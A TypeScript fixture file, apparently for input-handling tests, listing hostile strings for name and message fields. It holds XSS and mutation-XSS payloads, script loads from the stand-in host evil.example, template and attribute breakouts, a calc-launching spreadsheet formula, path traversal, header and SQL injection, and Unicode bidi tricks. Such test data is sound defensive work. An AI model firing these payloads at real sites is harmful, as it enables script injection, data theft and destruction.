/**
 * What somebody who means harm puts where a name or a text belongs. Each tries to run what sets
 * `__pwned`, to send something to `evil.example`, or to break the page.
 */

const RUN = 'window.__pwned=1'

/** Markup that runs something where it is not shown as text. */
const MARKUP = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script type="module">${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}" `,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<img src="//evil.example/pixel.gif">`,
  `<image href=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x">`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<iframe src="javascript:parent.__pwned=1"></iframe>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>">`,
  `<object data="javascript:${RUN}">`,
  `<embed src="//evil.example/x.swf">`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<a href="javascript:${RUN}">click</a>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<base href="//evil.example/">`,
  `<link rel=stylesheet href="//evil.example/x.css">`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<style>*{display:none!important}</style>`,
  `<template><script>${RUN}</script></template>`,
  `<dialog open>sign in again</dialog>`,
  `<portal src="//evil.example">`,
] as const

/** What parsers read differently the second time. */
const MUTATIONS = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<textarea></textarea><img src=x onerror=${RUN}>`,
  `<title></title><svg onload=${RUN}>`,
  `<xmp></xmp><svg onload=${RUN}>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;svg onload=${RUN}&#62;`,
  `\\u003csvg onload=${RUN}\\u003e`,
  `%3Csvg%20onload%3D${RUN}%3E`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
] as const

/** Ways out of an attribute, a string, a template or an address. */
const WAYS_OUT = [
  `" onmouseover="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus='`,
  `"><svg onload=${RUN}>`,
  `</textarea><svg onload=${RUN}>`,
  `</title><svg onload=${RUN}>`,
  `</script><svg onload=${RUN}>`,
  `]]><svg onload=${RUN}>`,
  `\`\${${RUN}}\``,
  `\${${RUN}}`,
  `{{${RUN}}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `$t(brand) {{login}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `';${RUN};//`,
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  `https://amy:secret@evil.example/`,
  `http://evil.example/"onmouseover="${RUN}`,
  `[click](javascript:${RUN})`,
  `![x](//evil.example/pixel.gif)`,
  `../../../etc/passwd`,
  `%00%0d%0aSet-Cookie: a=b`,
  `'; DROP TABLE directory_user; --`,
  `% _ ! \\`,
] as const

/** What a spreadsheet would run. */
const FORMULAS = [`=HYPERLINK("//evil.example","x")`, `+cmd|' /C calc'!A1`, `@SUM(1+1)`] as const

/** What programs take for something else than a text. */
const NOTHINGS = ['null', 'undefined', 'NaN', '[object Object]', '__proto__', 'constructor', '0']

/** Turns what follows it from right to left, also behind what a page puts around it. */
export const TURNING = '\u202egnp.egami\u2067\u202e'
/** Takes no room, or more than its line. */
const SHAPES = [
  TURNING,
  'مرحبا بالعالم',
  '\u200b\u200d\u2060\ufeffnothing',
  `Z${'\u0335\u0321\u0300'.repeat(30)}algo`,
  'W'.repeat(100),
  '﷽'.repeat(20),
  '👩‍👩‍👧‍👦🏴󠁧󠁢󠁳󠁣󠁴󠁿🇭🇰',
  '\ud7ff\ufffd\uffff\u{10ffff}',
]

/** A name as it is kept: without spaces around it, and without what turns others. */
export function kept(name: string): string {
  return name.replaceAll(/[\u202a-\u202e\u2066-\u2069]/g, '').trim()
}

/** What fits into a name: 100 characters on one line. */
export const NAMES: readonly string[] = [
  ...MARKUP,
  ...MUTATIONS,
  ...WAYS_OUT,
  ...FORMULAS,
  ...NOTHINGS,
  ...SHAPES,
]

/** What only a message can be. */
export const TEXTS: readonly string[] = [
  ...NAMES,
  `Z${'\u0300'.repeat(5_000)}`,
  'W'.repeat(10_000),
  '\u202e'.repeat(2_000),
  `${'\n'.repeat(500)}x`,
  'a\u0000b\u0007c\u001b[31md',
  '(((((((((('.repeat(500),
  `https://${'a.'.repeat(3_000)}example/`,
  '@'.repeat(5_000),
]
